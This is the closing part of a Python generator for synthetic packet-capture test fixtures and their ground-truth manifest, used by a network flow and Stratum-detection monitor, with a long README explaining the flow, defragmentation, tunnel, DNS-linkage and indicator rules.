    by_name = {c.name: c for c in caps}
    by_name["eth_tcp_http.pcapng"].desc = "pcapng (SHB, one IDB, EPBs) equivalent of eth_tcp_http.pcap"
    by_name["eth_tcp_http_be.pcap"].desc = "big-endian pcap (magic a1b2c3d4 written big-endian) equivalent of eth_tcp_http.pcap"
    by_name["eth_tcp_http_nsec.pcap"].desc = "nanosecond pcap (magic a1b23c4d) equivalent of eth_tcp_http.pcap"
    return caps


NOT_A_CAPTURE = (b"This is not a packet capture.\n"
                 b"It is a text file with some junk in it: \x00\x01\x02 GIF89a <?xml ?>\n"
                 b"davy must refuse it cleanly (error not_a_capture), not crash.\n")


README_HEAD = """\
# Test captures

Generated, with their ground truth, by `gen.py`; this README is generated too
(edit `gen.py`, not the output). Regenerate, byte-identically, with

    /usr/bin/python3 pcaps/gen.py pcaps/

(Debian's `python3-scapy` 2.5: `apt-get install python3-scapy`; the pyenv
`python3` on PATH has no scapy). Timestamps start at 2024-01-01T00:00:00Z
(1704067200); addresses are documentation ranges (192.0.2.0/24,
198.51.100.0/24, 203.0.113.0/24, 2001:db8::/32), 10.244.x.x "pods" and
loopback. Each file's sha256 is in the manifest.

`manifest.json` holds the truth: `rules` (flow key, src choice, states,
timeouts, end reasons, what is a decode error) and `captures`, keyed by file
name, each with `description`, `format` (pcap / pcapng / null),
`linktype` (or `linktypes` per pcapng interface), `byte_order`,
`ts_resolution`, `snaplen`, `size`, `sha256`, `packets` (records; complete
ones for a truncated file), `error` (`truncated` / `not_a_capture`, only for
bad files), `decode_errors`, `fragments`, `defrag` (only when fragments > 0),
`unsupported`, `last_ts`, `unattributed_packets` (frame number, kind, why;
only when any) and
`flows`: one object per expected flow record, sorted by start, with `proto`
(TCP, UDP, ICMP, IPv6-ICMP), `src_ip`, `src_port`, `dest_ip`, `dest_port`
(0 for ICMP), `vlan` (outermost first; absent when untagged), `tunnel`
(tunnelled flows only, see below), `pkts_toserver`, `pkts_toclient`,
`bytes_toserver`, `bytes_toclient` (wire lengths), `start`, `end` (epoch
seconds), `state` (new / established / closed) and `reason` (timeout /
shutdown). `too_many_layers` (only when any) is the part of `decode_errors`
that exceeded the tunnel layer cap. Invariant: `packets` +
`defrag.reassembled` = flow packets + decode_errors + fragments + unsupported.

IP fragments (rules in `rules.defrag`) are reassembled at any layer: every
IPv4 fragment (MF or an offset) and IPv6 fragment (offset or M; an atomic
fragment is a normal packet), outer or inside a tunnel, counts in `fragments`
(a fragment met again inside a reassembled outer datagram counts too) and is
never a flow packet or a decode error itself. A datagram keyed by version,
addresses, id (+ protocol for IPv4), VLANs and tunnel layers completes when
the last fragment has fixed its length and all its data is there; it is then
ONE packet of its flow, at the completing fragment's time, whose bytes are the
whole reassembled frame (link and outer headers and IP header of the offset-0
fragment, IPv6 fragment header removed, plus the data; inside a tunnel, from
the innermost payload as usual). A datagram that never completes makes no
flow. First data wins on overlaps (8-byte blocks); too big (> 65,535),
inconsistent (two ends, data past the end, a non-last fragment not a multiple
of 8 bytes: that fragment alone) and timed out (60 s from the first fragment)
datagrams are dropped. `defrag` holds the counters davy's stats record must
show: `fragments`, `reassembled`, `timeouts`, `evicted`, `overlaps`,
`overlap_conflicts`, `too_big`, `inconsistent`, `tiny_first` (all of them,
zeros included) and `active` (datagrams still incomplete at end of input).

Overlays (VXLAN on UDP 4789/8472, Geneve on 6081, GRE and GRE-in-UDP on 4754,
ERSPAN I/II/III, IP-in-IP, MPLS; rules in `rules.tunnels`): the flow is the
innermost IP flow, keyed by the inner 5-tuple, the VLAN ids of all Ethernet
headers (outer first) and the identifiers of its tunnel layers (VNI, GRE key,
ERSPAN session), never by outer addresses or outer UDP ports; its bytes count
the innermost frame (from the inner Ethernet or IP header). `tunnel` lists the
layers of the flow's first packet, outermost first, e.g.
`[{"type": "gre", "src_ip": "192.0.2.61", "dest_ip": "192.0.2.62", "key": 5},
{"type": "vxlan", "src_ip": "192.0.2.11", "dest_ip": "192.0.2.12", "vni": 300}]`
(`vni` / `key` (K bit only) / `session_id` (ERSPAN II, III) / `label` (MPLS
top label, no addresses)). At most 4 tunnel layers; a 5th is a decode error.

Stratum (rules in `rules.stratum`; captures `stratum_*` and `demo.pcap`): a
flow in which davy must recognise a Stratum dialect has `stratum`, the fields
of its record's stratum object that the model states (`dialect`, `role`,
`login`, `wallet_type`, `worker`, `pass`, `agent`, `algo`, `rigid`,
`difficulty`, `jobs`, `submits`, `accepted`, `rejected`; empty strings
absent); other flows must have none. Every capture has `alerts`: exactly the
alert records davy must write, each with `flow` (`proto`, `src_ip`,
`src_port`, `dest_ip`, `dest_port`, `start`: the flow's, as in its record),
`signature_id`, `timestamp` (epoch seconds), and for 4960001/4960002
`direction` and the stratum object's `dialect` at that time. Captures with
Stratum candidates have `reassembly`: davy's `stats.reassembly` counters
`gaps`, `gaps_ack`, `gaps_full`, `gaps_flush`. Captures with flows longer than
the default `--flow-update-interval` (300 s) have `updates`: the periodic flow
records (`flow.reason` `update`) with `flow`, `timestamp` and the counters so
far. These come from a reference model in `gen.py` (`FlowL7`: candidate
choice, `RefReasm`: TCP reassembly, `RefStratum`: the parser), written from
the contracts in `include/stratum.h`, `include/tcp_reasm.h` and
`include/stratum_flow.h`, not from davy's C code. The Stratum captures were
checked against tshark: `tshark -o tcp.reassemble_out_of_order:TRUE -z
follow,tcp,raw,N` rebuilds every complete stream (1-byte, swapped,
shuffled and retransmitted segments, inside VXLAN and Geneve too) into
exactly the bytes of the session scripts; in `stratum_loss.pcap` it reports
the designed holes ("Previous segment(s) not captured", "ACKed segment that
wasn't captured" on the pool's ACK where `gaps_ack` is declared); the V2
flows show the intended payload sizes (64/170/..., 63, 171, no SYN).

DNS linkage (rules in `rules.dns_linkage`; capture `dns_linkage.pcap`, and
every capture with DNS answers): a flow whose address a live DNS answer named
when the flow began has `dns_linked_name` (the question's name when a CNAME
chain in the answer leads to the address record's owner, else the owner) and
`dns_linked_cname` (the owner, when it differs); other flows have neither.
Every capture has `dns_linkage`: the counters `responses`, `errors`, `links`,
`tcp_split`, `cname_overflow` and `flows_linked` of davy's
`stats.dns_linkage`. They come from a reference model in `gen.py`
(`dns_parse`, `RefDnsLink`: which answers count, the CNAME chain, the cache
with its TTL clamp to [300 s, 1 day] and the latest answer winning), written
from `include/dnslink.h`, `include/dns.h` and `include/dnscache.h`; the
builder of `dns_linkage.pcap` also states the linkage it means to cause, and
gen.py stops when the model disagrees. `tshark -V` shows its answers, TTLs
and CNAME chains as built (tshark reassembles the split DNS-over-TCP answer,
which davy must not, and shows the 5-byte A record of the malformed answer as
an address without flagging it).

Indicators (rules in `rules.iocs`; captures `ioc_*`): each has `iocs`, what
davy must report when replayed with `--iocs` for each of `iocs.feeds` (the
shipped `iocs/` and the test feed `tests/data/test-iocs.txt`): `alerts`,
exactly the indicator alerts (signatures 4960101-4960109), each with `flow`,
`signature_id`, `timestamp`, `direction`, `severity`, `ioc` (`indicator`,
`type`, `feed`, `category`, `severity`, `matched`) and `fact` (what matched);
`lookalikes`, the flows built to resemble an indicator's (a name one letter
longer, an address next to a listed one) that must raise none; and
`stratum_hosts`, the flows whose `stratum` object has a `host` (the pool the
miner names), with that host; `stats`, davy's `stats.iocs` counters
`indicators`, `files`, `bad_lines` and `matched`. They
come from a reference model in `gen.py` (`RefIocs`: the plain feed format and
its lookups; `RefIocFlow`: which fact is checked when, which signature it
makes due), written from `include/ioc.h`, `include/ioc_match.h` and
`docs/signatures.md`, and for stratum URLs in payloads (4960106,
`payload.stratum_url`) and the host a miner names (`stratum.host`) from the
contract in `rules.iocs`; each builder also states the alerts it means to
cause, and gen.py stops when the model disagrees. `tests/ioc_golden_test.py`
checks davy against them; `golden_test.py` replays these captures with
`--no-iocs` like every other.

The truth is computed, not typed: each packet is built with a label (flow
packet, decode error, fragment, unsupported), a reference decoder in `gen.py`
re-reads the bytes by davy's rules and must agree with the label, a
reference reassembler applies the reassembly rules (each fragment is built
with what it must end as: held, dropped, or completing a flow packet; each
fragment capture with the counters it must cause), and a reference flow table
applies the flow rules. `check_tshark.py` cross-checks
the manifest's per-flow packet and byte sums against tshark
(`/usr/bin/python3 pcaps/check_tshark.py pcaps/`); it keys flows on the
outermost IP header, so it does not apply to the tunnel captures (vxlan*,
geneve, gre, erspan, ipip, mpls, nested, tunnel_damaged), which were checked
frame by frame against `tshark -T pdml` (innermost 5-tuple and direction,
tunnel identifiers, offset of the innermost payload). tshark decodes UDP 8472
as VXLAN only with `-d udp.port==8472,vxlan`, and decodes VXLAN without the I
flag, which davy must not. The reassembled datagrams of the fragment captures
(fragments, frag_*, vxlan_frag) were checked against `tshark -o
ip.defragment:TRUE -o ipv6.defragment:TRUE` (which frame completes which
datagram, its length and 5-tuple, the inner VXLAN flow, both layers of
vxlan_frag's nested case); `check_tshark.py` keys on the frames as captured
and does not apply to them. tshark 4.0 reassembles by addresses and id only
(it mixes the VLAN 10/20 datagrams of frag_ipv4 and the VNI 4096/4098 ones of
vxlan_frag; each alone reassembles as the manifest says), has no timeout
(frag_timeout), reassembles the datagrams davy drops for two ends or data past
the end and takes the 12-byte non-last fragment (frag_overlap d to g, flagged
as errors). It agrees that the first data wins an overlap (frag_overlap b
keeps port 7301).

## Captures

| file | link type | contents / what it tests |
| --- | --- | --- |
"""


def write_readme(outdir, manifest):
    lines = [README_HEAD]
    for name, c in manifest["captures"].items():
        if c.get("format") == "pcapng":
            lt = "pcapng " + "+".join(str(x) for x in c["linktypes"])
        elif c.get("format") == "pcap":
            lt = str(c["linktype"])
        else:
            lt = "-"
        n = len(c["flows"])
        extra = []
        if c["decode_errors"]:
            extra.append("%d decode errors" % c["decode_errors"])
        if c["fragments"]:
            dg = c["defrag"]
            extra.append("%d fragments, %d reassembled" % (c["fragments"], dg["reassembled"]))
            extra += ["%s %d" % (k, dg[k]) for k in DEFRAG_COUNTERS[2:] if dg[k]]
        if c["unsupported"]:
            extra.append("%d unsupported" % c["unsupported"])
        if c.get("error"):
            extra.append("error %s" % c["error"])
        ns = sum(1 for f in c["flows"] if "stratum" in f)
        if ns:
            extra.append("%d Stratum" % ns)
        if c.get("alerts"):
            sids = collections.Counter(a["signature_id"] for a in c["alerts"])
            extra.append("alerts " + ", ".join("%d x%d" % (k, sids[k]) for k in sorted(sids)))
        if any(c.get("reassembly", {}).values()):
            extra.append("gaps " + ", ".join("%s %d" % (k[5:], v) for k, v in c["reassembly"].items()
                                             if k != "gaps" and v))
        if c.get("updates"):
            extra.append("%d update records" % len(c["updates"]))
        nd = sum(1 for f in c["flows"] if "dns_linked_name" in f)
        if nd:
            extra.append("%d DNS-linked" % nd)
        if c.get("iocs"):
            sids = collections.Counter(a["signature_id"] for a in c["iocs"]["alerts"])
            nl = len(c["iocs"]["lookalikes"])
            extra.append("with --iocs: " + ", ".join("%d x%d" % (k, sids[k]) for k in sorted(sids))
                         + ", %d look-alike%s" % (nl, "" if nl == 1 else "s"))
        tail = " (%d flow%s%s)" % (n, "" if n == 1 else "s", "".join(", " + e for e in extra))
        lines.append("| `%s` | %s | %s%s |\n" % (name, lt, c["description"], tail))
    with open(os.path.join(outdir, "README.md"), "w") as f:
        f.write("".join(lines))


def check_dns_expect(cap, t):
    """The linkage a builder states it means to cause must be what the
    reference model computes: its counters, and for each flow keyed (dest_ip,
    dest_port[, src_port]) the names; every other flow has none."""
    want = cap.dns_expect
    if t["dns_linkage"] != want["counters"]:
        raise SystemExit("%s: DNS linkage counters built to be %s, the reference gives %s"
                         % (cap.name, want["counters"], t["dns_linkage"]))
    used = set()
    for f in t["flows"]:
        keys = [k for k in want["flows"] if k[:2] == (f["dest_ip"], f["dest_port"])
                and (len(k) == 2 or k[2] == f["src_port"])]
        assert len(keys) <= 1, keys
        exp = want["flows"][keys[0]] if keys else None
        got = (f["dns_linked_name"], f.get("dns_linked_cname")) if "dns_linked_name" in f else None
        if got != exp:
            raise SystemExit("%s: flow %s:%d -> %s:%d built to be linked %s, the reference gives %s"
                             % (cap.name, f["src_ip"], f["src_port"], f["dest_ip"], f["dest_port"],
                                exp, got))
        used.update(keys)
    assert used == set(want["flows"]), set(want["flows"]) - used


def ioc_entry(cap, t, iocs):
    """The manifest's "iocs" of a capture modelled with indicators."""
    looks = []
    for k in cap.ioc_expect["lookalikes"]:
        fl = [f for f in t["flows"] if (f["dest_ip"], f["dest_port"], f["src_port"])[:len(k)] == k]
        assert len(fl) == 1, (cap.name, k)
        looks.append({key: fl[0][key] for key in ("proto", "src_ip", "src_port", "dest_ip",
                                                   "dest_port", "start")})
    return {"feeds": list(IOC_FEEDS), "alerts": t["ioc_alerts"], "lookalikes": looks,
            "stratum_hosts": t["stratum_hosts"],
            "stats": {"indicators": len(iocs.by_key), "files": iocs.files, "bad_lines": 0,
                      "matched": {w: t["ioc_matched"][w] for w in IOC_WHERE}}}


def main():
    if len(sys.argv) != 2:
        sys.exit("usage: gen.py OUTDIR")
    outdir = sys.argv[1]
    os.makedirs(outdir, exist_ok=True)
    manifest = {
        "generator": "pcaps/gen.py",
        "regenerate": "/usr/bin/python3 pcaps/gen.py pcaps/",
        "epoch_base": T0,
        "rules": RULES,
        "captures": {},
    }
    iocs = None
    for cap in build_all():
        if cap.iocs and iocs is None:
            iocs = RefIocs(IOC_FEEDS)
        for r in cap.recs:
            assert r.ts_us >= T0_US
        assert [r.ts_us for r in cap.recs] == sorted(r.ts_us for r in cap.recs), cap.name
        data = cap.file_bytes()
        with open(os.path.join(outdir, cap.name), "wb") as f:
            f.write(data)
        for name, text in cap.side_files.items():
            with open(os.path.join(outdir, name), "w") as f:
                f.write(text)
        t = truth(cap, iocs if cap.iocs else None)
        recs = cap.complete if cap.complete is not None else cap.recs
        entry = {"description": cap.desc, "format": cap.fmt}
        if cap.fmt == "pcapng":
            entry["linktypes"] = [i["linktype"] for i in cap.ifaces]
            entry["ts_resolution"] = ["ns" if i["tsresol"] == 9 else "us" for i in cap.ifaces]
        else:
            entry["linktype"] = cap.linktype
            entry["byte_order"] = "big" if cap.order == ">" else "little"
            entry["ts_resolution"] = "ns" if cap.nsec else "us"
            entry["snaplen"] = cap.snaplen
        entry["size"] = len(data)
        entry["sha256"] = hashlib.sha256(data).hexdigest()
        entry["packets"] = len(recs)
        if cap.extra:
            entry.update(cap.extra)
        entry["decode_errors"] = t["decode_errors"]
        entry["fragments"] = t["fragments"]
        if t["fragments"]:
            entry["defrag"] = t["defrag"]
        entry["unsupported"] = t["unsupported"]
        if t["too_many_layers"]:
            entry["too_many_layers"] = t["too_many_layers"]  # included in decode_errors
        entry["last_ts"] = recs[-1].ts_us / 1e6 if recs else None
        if t["unattributed_packets"]:
            entry["unattributed_packets"] = t["unattributed_packets"]
        entry["flows"] = t["flows"]
        entry["alerts"] = t["alerts"]
        if t["reassembly"] is not None:
            entry["reassembly"] = t["reassembly"]
        if t["updates"]:
            entry["updates"] = t["updates"]
        entry["dns_linkage"] = t["dns_linkage"]
        if cap.dns_expect is not None:
            check_dns_expect(cap, t)
        if cap.iocs:
            check_ioc_expect(cap, t)
            entry["iocs"] = ioc_entry(cap, t, iocs)
        assert t["dns_linkage"]["flows_linked"] == sum(1 for f in t["flows"]
                                                       if "dns_linked_name" in f), cap.name
        if cap.name not in V2_CAPTURES:
            assert all(a["signature_id"] != SID_V2 for a in t["alerts"]), cap.name
        n = sum(f["pkts_toserver"] + f["pkts_toclient"] for f in t["flows"])
        assert n + t["decode_errors"] + t["fragments"] + t["unsupported"] \
            == len(recs) + t["defrag"]["reassembled"], cap.name
        manifest["captures"][cap.name] = entry
    with open(os.path.join(outdir, "not_a_capture.pcap"), "wb") as f:
        f.write(NOT_A_CAPTURE)
    manifest["captures"]["not_a_capture.pcap"] = {
        "description": "a text file with junk; not a capture of any format",
        "format": None, "size": len(NOT_A_CAPTURE),
        "sha256": hashlib.sha256(NOT_A_CAPTURE).hexdigest(), "error": "not_a_capture",
        "packets": 0, "decode_errors": 0, "fragments": 0,
        "unsupported": 0, "last_ts": None, "flows": [], "alerts": [],
        "dns_linkage": RefDnsLink().stats()}
    with open(os.path.join(outdir, "manifest.json"), "w") as f:
        json.dump(manifest, f, indent=2)
        f.write("\n")
    write_readme(outdir, manifest)


if __name__ == "__main__":
    main()
